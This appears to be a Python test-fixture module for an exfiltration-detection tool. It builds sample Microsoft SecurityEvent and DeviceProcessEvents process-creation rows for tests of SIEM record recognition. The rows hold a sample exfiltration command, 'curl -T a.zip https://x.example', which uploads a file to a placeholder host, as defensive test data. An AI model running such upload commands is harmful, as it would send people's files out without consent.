"""Rows of Microsoft's tables, for tests."""

from datetime import UTC, datetime, timedelta
from typing import Any

import msgspec

from exfilwatch.events.shape import recognise
from exfilwatch.siem.siem import SECOND

NOON = 1_773_316_800 * SECOND
"""2026-03-12T12:00:00Z."""


def stamp(micros: int, tenths: int = 0) -> str:
    """As Microsoft writes it, to 0.1 µs."""
    time = datetime(1970, 1, 1, tzinfo=UTC) + timedelta(microseconds=micros)
    return f"{time:%Y-%m-%dT%H:%M:%S.%f}{tenths}Z"


def security(micros: int, number: int = 1, host: str = "WS1", **columns: object) -> dict[str, Any]:
    """A process creation as SecurityEvent has it."""
    record = {"TimeGenerated": stamp(micros), "Computer": host, "EventID": 4688, "EventRecordId": str(number)}
    channel = {"Channel": "Security", "EventSourceName": "Microsoft-Windows-Security-Auditing"}
    process = {"NewProcessName": r"C:\Windows\System32\curl.exe", "CommandLine": "curl -T a.zip https://x.example"}
    return {**record, **channel, **process, **columns}


def hunted(micros: int, number: int = 1, host: str = "ws1.corp.example", **columns: object) -> dict[str, Any]:
    """A process creation as DeviceProcessEvents has it."""
    record = {"Timestamp": stamp(micros), "DeviceId": "7a" * 20, "DeviceName": host, "ReportId": number}
    process = {"FileName": "curl.exe", "FolderPath": r"C:\Windows\System32\curl.exe", "ProcessCommandLine": "curl -T a"}
    return {**record, "ActionType": "ProcessCreated", **process, "InitiatingProcessFileName": "cmd.exe", **columns}


def shape(record: dict[str, Any]) -> str:
    """The field map that recognises a record, as it came from the SIEM."""
    found = recognise(msgspec.json.decode(msgspec.json.encode(record)))
    return found.name if found else ""
